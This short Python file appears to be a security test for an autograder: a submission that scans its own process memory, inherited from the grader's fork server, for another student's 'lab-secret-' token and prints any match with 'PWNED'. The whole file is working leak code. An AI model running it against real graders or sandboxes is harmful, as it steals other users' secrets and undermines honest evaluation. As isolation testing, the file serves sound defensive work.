"""Search its own memory, which the fork server had before it, for an earlier student's.

A safe grader has a fork server that never held anything of a submission.

Expected: passed, 10 points
"""

import ctypes
import os
import re

with open("/proc/self/maps") as file:
    areas = re.findall(r"^(\w+)-(\w+) rw", file.read(), re.MULTILINE)
begin = b"lab-" + b"secret-"
libc = ctypes.CDLL(None)
ends = os.pipe()
for start, end in areas:
    for place in range(int(start, 16), int(end, 16), 2**16):
        size = libc.write(ends[1], ctypes.c_void_p(place), ctypes.c_size_t(2**16))
        if size <= 0:
            break  # nothing is there
        memory = os.read(ends[0], size)
        for word in set(re.findall(begin + rb"[0-9a-f]{16}", memory)):
            print("PWNED", word)
